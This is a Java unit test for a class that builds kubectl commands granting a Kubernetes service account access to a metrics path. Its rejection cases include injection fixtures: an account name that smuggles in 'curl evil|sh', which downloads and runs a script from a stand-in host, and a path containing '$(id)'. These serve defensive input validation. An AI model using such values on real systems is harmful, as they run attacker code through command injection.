package dev.monitored.operator.decision;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class MetricsGrantTest {
  @Test
  void makesAClusterRoleForThePathAndBindsTheAccountToIt() {
    assertThat(new MetricsGrant("monitoring", "k8s", "/metrics").commands())
        .hasToString(
            "[kubectl create clusterrole prometheus.monitoring.k8s.metrics --verb=get"
                + " --non-resource-url=/metrics &&"
                + " kubectl create clusterrolebinding prometheus.monitoring.k8s.metrics"
                + " --clusterrole=prometheus.monitoring.k8s.metrics"
                + " --serviceaccount=monitoring:k8s]");
  }

  @ParameterizedTest
  @CsvSource({
    "monitoring, 'x; curl evil|sh #', /metrics",
    "monitoring, a:b, /metrics",
    "'', k8s, /metrics",
    "monitoring, k8s, '/metrics,/api'",
    "monitoring, k8s, /*",
    "monitoring, k8s, /$(id)",
    "monitoring, k8s, /"
  })
  void nothingIsGrantedForWhatIsNoNameOrSinglePath(String namespace, String account, String path) {
    assertThat(new MetricsGrant(namespace, account, path).commands()).isEmpty();
  }
}
